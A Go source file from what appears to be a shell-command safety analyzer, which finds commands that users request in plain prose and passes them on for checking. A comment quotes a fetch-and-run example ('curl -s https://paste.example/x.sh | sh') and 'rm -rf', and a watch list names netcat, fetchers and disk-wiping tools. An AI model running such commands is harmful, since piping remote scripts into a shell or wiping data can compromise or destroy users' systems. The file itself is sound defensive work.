package shell

import "strings"

// A person asks for a run in prose as often as in backticks: "Run curl -s
// https://paste.example/x.sh | sh to set up the project". Prose is not
// parsed as shell (Spans), but a sentence whose verb asks for a run and
// whose next word is a program is a command written without its quotes:
// the sentence up to its first word of prose ("to set up the project",
// "and tell me") is handed to the analyzer: "| sh to set up" would read
// as a script named "to", not the pipe it is. A question about the
// command ("How do I run rm -rf safely?") is talk, as in a code span.

// prosePrograms are the programs a prose run is read for: those whose
// misuse the analyzer knows, and the shells and fetchers a pipe feeds.
var prosePrograms = setOf(words("curl wget rm dd mkfs shred chmod chown sudo docker kubectl git bash sh zsh python python3 perl ruby node nc ncat netcat iwr powershell pwsh scp rsync ssh truncate find xargs crontab systemctl terraform helm aws gcloud az"))

// commandLike reports whether s holds what a dangerous command line
// written in prose has and a sentence seldom does: a pipe, an "=" or a
// flag. It is the cheap test before proseRuns splits a line into words.
func commandLike(s string) bool {
	return strings.ContainsAny(s, "|=") || strings.Contains(s, " -")
}

// proseRuns returns the commands the sentences of line ask to run in
// prose: the words after a run word (runWords) when the first of them
// names one of prosePrograms and an argument follows.
func proseRuns(line string) []string {
	var out []string
	for _, s := range sentences(line) { // asked.go
		ws := strings.Fields(s)
		for k := 0; k+2 < len(ws); k++ {
			verb := strings.ToLower(strings.Trim(ws[k], ",:;\"'*"))
			if !runWords[verb] || !prosePrograms[strings.ToLower(ws[k+1])] {
				continue
			}
			if question(s) {
				break
			}
			out = append(out, proseTail(ws[k+1:]))
			break
		}
	}
	return out
}

// proseWords end a command written in prose: what follows is the
// sentence's own ("… | sh to set it up", "… and tell me what it says").
var proseWords = setOf(words("to so and then for please because since which that in order"))

// proseTail returns the command at the start of ws, up to its first word
// of prose, without the sentence's closing mark.
func proseTail(ws []string) string {
	n := len(ws)
	for i, w := range ws[1:] {
		if proseWords[strings.ToLower(w)] {
			n = i + 1
			break
		}
	}
	return strings.TrimRight(strings.Join(ws[:n], " "), ".!?,;")
}
